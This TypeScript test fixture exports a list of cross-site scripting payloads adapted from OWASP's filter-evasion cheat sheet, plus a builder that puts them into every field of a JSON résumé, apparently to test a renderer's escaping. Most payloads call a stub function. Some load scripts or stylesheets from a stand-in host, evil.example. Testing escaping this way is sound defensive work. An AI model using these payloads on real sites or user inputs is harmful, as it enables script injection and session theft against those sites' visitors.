/**
 * Texts that run a script where they get out of their place: of an element, an attribute, a comment, a
 * script, a style or an address. Each calls `pwned`, which no page has. (After OWASP’s cheat sheet on
 * filter evasion, and what HTML’s parser is known to mend.)
 */
export const PAYLOADS: readonly string[] = [
  "<script>pwned()</script>",
  "<ScRiPt>pwned()</sCrIpT>",
  "</script><script>pwned()</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=pwned()>",
  "<img src=x onerror='pwned()'>",
  "<img/src=x/onerror=pwned()>",
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  '" onmouseover="pwned()" x="',
  "' onfocus='pwned()' autofocus='",
  '" autofocus onfocus=pwned() x="',
  "<svg onload=pwned()>",
  "<svg><script>pwned()</script></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwned()>'>",
  "<iframe src=javascript:pwned()></iframe>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<object data=javascript:pwned()></object>",
  "<embed src=javascript:pwned()>",
  "<a href=javascript:pwned()>x</a>",
  "<form action=javascript:pwned()><button>x</button></form>",
  "<button formaction=javascript:pwned()>x</button>",
  "<body onload=pwned()>",
  "<details open ontoggle=pwned()>",
  "<video><source onerror=pwned()></video>",
  "<audio src=x onerror=pwned()>",
  "<input autofocus onfocus=pwned()>",
  "<marquee onstart=pwned()>x</marquee>",
  "<style>@import 'javascript:pwned()';</style>",
  "</style><script>pwned()</script>",
  "</title><script>pwned()</script>",
  "</textarea><script>pwned()</script>",
  "</noscript><script>pwned()</script>",
  "--><script>pwned()</script><!--",
  "]]><script>pwned()</script>",
  "<![CDATA[<script>pwned()</script>]]>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
  "${pwned()}",
  "{{constructor.constructor('pwned()')()}}",
  "javascript:pwned()",
  " jAvAsCrIpT:pwned()",
  "java\tscript:pwned()",
  "data:text/html,<script>pwned()</script>",
  "vbscript:pwned()",
];

type Entry = Readonly<Record<string, unknown>>;
const LISTS: Readonly<Record<string, readonly string[]>> = {
  work: ["name", "position", "location", "description", "url", "summary"],
  volunteer: ["organization", "position", "url", "summary"],
  education: ["institution", "url", "area", "studyType", "score"],
  awards: ["title", "date", "awarder", "summary"],
  certificates: ["name", "date", "issuer", "url"],
  publications: ["name", "publisher", "releaseDate", "url", "summary"],
  skills: ["name", "level"],
  languages: ["language", "fluency"],
  interests: ["name"],
  references: ["name", "reference"],
  projects: ["name", "description", "url", "entity", "type", "startDate", "endDate"],
};
const TEXT_LISTS = ["highlights", "keywords", "courses", "roles"];

/**
 * A résumé with these texts in every field: one entry for each of them in every list, all of them in
 * the fields that there are once.
 * @param alone what stands in fields whose beginning decides what they are: addresses, picture, language
 */
export function hostileResume(payloads: readonly string[], alone: string): Entry {
  const all = payloads.join(" ");
  const lists = Object.entries(LISTS).map(([list, fields]) => [
    list,
    payloads.map((payload) => ({
      ...Object.fromEntries(fields.map((field) => [field, payload])),
      ...Object.fromEntries(TEXT_LISTS.map((field) => [field, [payload]])),
    })),
  ]);
  return {
    basics: {
      name: all,
      label: all,
      summary: all,
      email: alone,
      phone: alone,
      url: alone,
      image: alone,
      location: { address: all, postalCode: all, city: all, region: all, countryCode: all },
      profiles: payloads.map((payload) => ({ network: payload, username: payload, url: payload })),
    },
    ...Object.fromEntries(lists),
    meta: { language: alone, canonical: alone },
  };
}
